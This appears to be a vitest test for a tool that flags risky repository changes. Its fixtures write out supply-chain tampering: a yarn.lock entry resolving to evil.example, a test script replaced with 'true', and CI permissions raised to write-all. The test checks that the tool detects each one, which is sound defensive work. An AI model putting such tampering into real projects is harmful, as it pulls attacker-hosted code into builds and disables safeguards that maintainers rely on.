import { chmod } from "node:fs/promises";
import { join } from "node:path";
import { expect, it } from "vitest";
import { gitRepository, writeFiles } from "../../support/git-repository.ts";
import { aRun, aStep, givenWorkspace } from "../../support/workspace.ts";

it("reads what a person looks at from both sides of manifests, lockfiles, workflows and modes", async () => {
  const repository = await gitRepository({
    "package.json": '{"name":"a","version":"1.0.0","scripts":{"test":"node --test"}}',
    "tool/package.json": '{"name":"tool","version":"1.0.0"}',
    ".github/workflows/ci.yml": "on: push\njobs: {}\n",
    "yarn.lock": 'a@1:\n  resolved "https://registry.yarnpkg.com/a.tgz"\n',
    "run.sh": "#!/bin/sh\n",
  });
  const { workspace } = await givenWorkspace(repository);
  const root = await workspace.root();
  await writeFiles(root, {
    "package.json":
      '{"name":"a","version":"1.0.1","scripts":{"test":"true"},"dependencies":{"left-pad":"1"}}',
    "tool/package.json": '{"name":"tool","version":"1.0.1"}',
    ".github/workflows/ci.yml": "on: push\npermissions: write-all\njobs: {}\n",
    "yarn.lock": 'a@1:\n  resolved "https://evil.example/a.tgz"\n',
    "new.sh": "#!/bin/sh\n",
  });
  await chmod(join(root, "run.sh"), 0o755);
  await chmod(join(root, "new.sh"), 0o755);

  const { risks } = await workspace.capture(aRun(), aStep());

  expect(risks.map(({ path, part }) => `${path}: ${part}`)).toEqual([
    ".github/workflows/ci.yml: permissions",
    "package.json: scripts.test",
    "package.json: dependencies.left-pad",
    "run.sh: mode",
    "yarn.lock: evil.example",
  ]);
});
